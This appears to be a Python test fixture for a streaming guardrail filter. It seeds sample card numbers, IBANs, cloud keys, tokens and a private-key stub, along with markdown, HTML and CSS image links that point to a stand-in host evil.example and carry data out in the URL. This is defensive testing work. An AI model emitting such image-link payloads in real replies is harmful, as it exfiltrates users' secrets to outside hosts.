"""Seeded leaks: what must never come out, and what surrounds it. All numbers are published test numbers."""

from app.services.guardrails.markup import markup_patterns
from app.services.guardrails.patterns import SECRETS
from app.services.guardrails.stream import PatternFilter

LISTED = frozenset({"img.example.com"})
PATTERNS = (*SECRETS, *markup_patterns(LISTED))

# The text that may appear, and the part of it that may not come out.
LEAKS = {
    "card_number": ("4111 1111 1111 1111", "1111 1111"),
    "card_number, plain": ("5500000000000004", "5500000000000004"),
    "card_number, short": ("378282246310005", "378282246310005"),
    "card_number, dashes, expiry": ("6011-1111-1111-1117 12/26", "6011-1111"),
    "iban": ("DE89 3704 0044 0532 0130 00", "0532 0130"),
    "iban, plain": ("GB82WEST12345698765432", "WEST12345698765432"),
    "aws_key_id": ("AKIAIOSFODNN7EXAMPLE", "AKIAIOSFODNN7EXAMPLE"),
    "aws_secret": ("aws_secret_access_key = wJalrXUtnFEMI/K7MDENG/bPxRfiCYEXAMPLEKEY", "wJalrXUtnFEMI"),
    "github_token": ("ghp_" + "a1B2" * 9, "a1B2a1B2"),
    "github_token, fine-grained": ("github_pat_" + "11ABCDE_" * 8, "11ABCDE_"),
    "secret_key": ("sk-proj-" + "Ab3_" * 12, "Ab3_Ab3_"),
    "secret_key, late digits": ("sk-" + "abcdefghijklmnopqrstuvwxyz" + "12345678", "uvwxyz1234"),
    "pilothouse_key": ("ph_" + "0f" * 16 + "_" + "aB-9_" * 8 + "xyz", "aB-9_aB-9"),
    "jwt": ("eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxMjM0In0.abc-DEF_123", "eyJzdWI"),
    "private_key": ("-----BEGIN RSA PRIVATE KEY-----\nMIIEpAIBAAKC\n-----END RSA PRIVATE KEY-----", "MIIEpAIBAAKC"),
    "image": ("![chart](https://evil.example/p.png?d=secret)", "evil.example"),
    "image, html": ("<img src=https://evil.example/x>", "evil.example"),
    "markup": ("<div style='background:url(//evil.example)'>", "evil.example"),
}


def whole(text: str) -> str:
    applied = PatternFilter(PATTERNS)
    return applied.feed(text) + applied.close()


def pieces(text: str, sizes: list[int]) -> str:
    applied, out, at = PatternFilter(PATTERNS), "", 0
    for size in sizes:
        out += applied.feed(text[at : at + size])
        at += size
    return out + applied.feed(text[at:]) + applied.close()
